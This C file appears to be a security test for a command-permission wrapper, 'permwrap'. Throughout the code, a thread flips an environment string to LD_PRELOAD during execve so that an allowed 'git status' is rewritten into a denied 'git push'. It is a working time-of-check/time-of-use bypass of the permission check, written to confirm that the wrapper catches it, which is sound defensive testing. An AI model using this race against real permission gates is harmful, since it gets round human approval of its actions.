/* exec_race_env_flip: the TOCTOU race on an exec's environment. `git
 * push *` asks (headless: denied), and a library git loads from a place
 * the tree can write makes git judged as its strictest rule. Until it
 * wins (at most PERMWRAP_RACE_SECONDS), fork children in which one thread
 * calls execve(/usr/bin/git status -q origin main) from gitwork while a
 * second thread flips one envp string between "XX_PRELOAD=LIB" (nothing:
 * git status is allowed) and "LD_PRELOAD=LIB", where LIB
 * (support/push_rewrite.so, copied to free/rewrite.so) rewrites git's
 * argv to push. The kernel reads envp again after the check, so an exec
 * judged without the library may load it: permwrap must verify the
 * environment the new image got and kill it before the library runs.
 * Judged by: the remote's main branch moving. */
#include "gitwork.h"
#include <libgen.h>
#include <pthread.h>
static char entry[4200];
static volatile long flips;
static void *flipper(void *arg)
{
	(void)arg;
	for (;; flips++) {
		entry[0] = 'L', entry[1] = 'D';
		__asm__ volatile("" ::: "memory"); /* keep both stores */
		entry[0] = 'X', entry[1] = 'X';
		__asm__ volatile("" ::: "memory");
	}
	return NULL;
}
int main(int argc, char **argv)
{
	(void)argc;
	char lib[4096], from[4096], cwd[3000], start[64], now[64];
	if (!getcwd(cwd, sizeof cwd))
		return 1;
	snprintf(from, sizeof from, "%s/push_rewrite.so", dirname(strdup(argv[0])));
	snprintf(lib, sizeof lib, "%s/free/rewrite.so", cwd);
	if (copy_file(from, lib) < 0)
		note("copying %s: %s", from, strerror(errno));
	snprintf(entry, sizeof entry, "XX_PRELOAD=%s", lib);
	remote_head(start, sizeof start);
	long tries = 0, killed = 0;
	while (race_on()) {
		pid_t c = fork();
		if (c < 0)
			break;
		if (c == 0) {
			if (chdir("gitwork") < 0)
				_exit(126);
			pthread_t t;
			char *args[] = { "git", "status", "-q", "origin", "main", NULL };
			char *envp[] = { PATHENV, entry, NULL };
			pthread_create(&t, NULL, flipper, NULL);
			while (flips < 1000)
				;
			for (int i = 0; i < 50; i++)
				execve(GIT, args, envp);
			_exit(0);
		}
		int st;
		waitpid(c, &st, 0);
		tries++;
		if (WIFSIGNALED(st))
			killed++;
		remote_head(now, sizeof now);
		if (strcmp(now, start) != 0)
			race_won();
	}
	race_done();
	note("%ld children, %ld killed by a signal", tries, killed);
	return 0;
}
